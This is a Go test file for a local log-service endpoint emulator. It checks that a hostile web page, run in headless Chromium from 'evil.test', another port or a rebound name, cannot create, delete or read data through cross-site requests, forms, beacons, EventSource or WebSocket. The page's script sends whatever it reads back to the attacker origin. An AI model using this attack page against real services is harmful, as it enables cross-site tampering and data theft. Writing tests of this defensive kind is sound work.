package endpoint_test

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/logsieve/logsieve/internal/page/pagetest"
)

// attackPage sends what a page can send, without being asked or by a script, to
// TARGET, and then tells what it could read.
const attackPage = `<!doctype html><title>page</title><iframe name=sink></iframe>
%s
<script>
const target = %q, read = []
const requests = %s
const tries = []
for (const r of requests) for (const mode of ['no-cors', 'cors', 'same-origin']) for (const media of [r.media, 'text/plain', '']) {
  const headers = {}
  if (media) headers['Content-Type'] = media
  if (r.target && mode != 'no-cors') headers['X-Amz-Target'] = r.target
  const body = r.body ? new Blob([r.body], {type: media}) : undefined
  tries.push(fetch(target + r.path, {method: r.method, mode, headers, body}).then((a) => a.text()).then((text) => read.push(text), () => {}))
}
for (const r of requests) {
  navigator.sendBeacon(target + r.path, r.body)
  tries.push(new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = target + r.path }))
}
tries.push(new Promise((done) => { const e = new EventSource(target + '/_logsieve/metrics'); e.onerror = () => { e.close(); done() }; e.onmessage = (m) => read.push(m.data) }))
tries.push(new Promise((done) => { const w = new WebSocket(target.replace('http', 'ws')); w.onclose = done; w.onopen = () => read.push('websocket') }))
for (const form of document.forms) form.submit()
Promise.all(tries).then(() => fetch('/done', {method: 'POST', body: JSON.stringify(read)}))
</script>`

// TestBrowser opens a page of another site, and one whose name has been made
// to lead to the endpoint, in a browser: neither changes nor reads anything,
// in any protocol. .ci/browser installs the browser.
func TestBrowser(t *testing.T) {
	browser := pagetest.Browser()
	if browser == "" {
		t.Skip("Chromium is not installed: no page tries to reach the endpoint; see .ci/browser")
	}
	if testing.Short() {
		t.Skip("starts a browser")
	}
	for _, name := range []string{"another site", "another port", "rebound name"} {
		t.Run(name, func(t *testing.T) {
			x := newTester(t, nil)
			expect(t, x, 200, "", "CreateLogGroup", `{"logGroupName": "secret-group"}`)
			var mu sync.Mutex
			statuses := map[int]int{}
			endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				seen := &statusWriter{ResponseWriter: w}
				x.ServeHTTP(seen, r)
				mu.Lock()
				defer mu.Unlock()
				statuses[seen.status]++
			}))
			defer endpoint.Close()
			to, err := url.Parse(endpoint.URL)
			if err != nil {
				t.Fatal(err)
			}
			// The page's own server. To a name that is bound anew it is the
			// endpoint, but for the page itself.
			forward := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(to); r.Out.Host = r.In.Host }}
			done := make(chan string, 1)
			target := endpoint.URL
			site := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/page":
					w.Header().Set("Content-Type", "text/html")
					fmt.Fprintf(w, attackPage, forms(target), target, pageRequests())
				case "/favicon.ico": // which a browser asks for by itself, or not
					http.NotFound(w, r)
				case "/done":
					text, _ := io.ReadAll(r.Body)
					done <- string(text)
				default:
					forward.ServeHTTP(w, r)
				}
			}))
			defer site.Close()
			_, port, err := net.SplitHostPort(site.Listener.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			origin := "http://evil.test:" + port
			switch name {
			case "another port":
				origin = "http://" + site.Listener.Addr().String()
			case "rebound name":
				target = origin
			}
			site.Start()
			profile, err := os.MkdirTemp("", "logsieve-browser-")
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = os.RemoveAll(profile) }() // the browser's own processes may still be writing
			ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-proxy-server", "--user-data-dir="+profile,
				"--host-resolver-rules=MAP evil.test 127.0.0.1", "--remote-debugging-port=0", origin+"/page")
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			read := ""
			select {
			case read = <-done:
			case <-ctx.Done():
				t.Error("the page has not come to its end")
			}
			cancel()
			_ = cmd.Wait() // it reports the kill
			if strings.Contains(read, "secret-group") || strings.Contains(read, "logsieve_metric_samples") || strings.Contains(read, "Account>") || strings.Contains(read, "websocket") {
				t.Errorf("the page reads %s", read)
			}
			mu.Lock()
			defer mu.Unlock()
			refused := 0
			for status, n := range statuses {
				if refused += n; status != http.StatusForbidden && status != http.StatusMisdirectedRequest {
					t.Errorf("%d requests of the page are answered %d", n, status)
				}
			}
			if refused < 20 {
				t.Errorf("only %d requests of the page have come", refused)
			}
			expect(t, x, 200, `{"logGroups":[{"logGroupName":"secret-group"`, "ListLogGroups", `{}`)
			expect(t, x, 200, `{"logGroups":[]}`, "DescribeLogGroups", `{"logGroupNamePrefix": "made"}`)
			for _, path := range []string{"/2020-05-31/realtime-log-config", ingestions} {
				if w := request(x, http.MethodGet, path, nil, ""); w.Code != 200 || strings.Contains(w.Body.String(), "arn:aws:appfabric") || strings.Contains(w.Body.String(), "<Name>") {
					t.Errorf("%s has %s", path, w.Body)
				}
			}
		})
	}
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(status int) {
	w.status = status
	w.ResponseWriter.WriteHeader(status)
}

func (w *statusWriter) Unwrap() http.ResponseWriter { return w.ResponseWriter }

// pageRequests are those of a page: every protocol, and what would change
// something.
func pageRequests() string {
	type request struct {
		Method string `json:"method"`
		Path   string `json:"path"`
		Media  string `json:"media"`
		Target string `json:"target"`
		Body   string `json:"body"`
	}
	list := []request{
		{"POST", "/", "application/x-amz-json-1.1", "Logs_20140328.CreateLogGroup", `{"logGroupName": "made"}`},
		{"POST", "/", "application/x-amz-json-1.1", "Logs_20140328.DeleteLogGroup", `{"logGroupName": "secret-group"}`},
	}
	for _, a := range everyProtocol() {
		list = append(list, request{a.method, a.path, a.media, a.target, a.body})
	}
	text, err := json.Marshal(list) // < and > come escaped
	if err != nil {
		panic(err)
	}
	return string(text)
}

// forms post in each way that a form can.
func forms(target string) string {
	var b strings.Builder
	for _, a := range everyProtocol() {
		for _, media := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data"} {
			name, value, _ := strings.Cut(a.body, "=")
			fmt.Fprintf(&b, `<form method=post target=sink action="%s" enctype="%s"><input name="%s" value="%s"></form>`+"\n",
				html.EscapeString(target+a.path), media, html.EscapeString(name), html.EscapeString(value))
		}
	}
	return b.String()
}
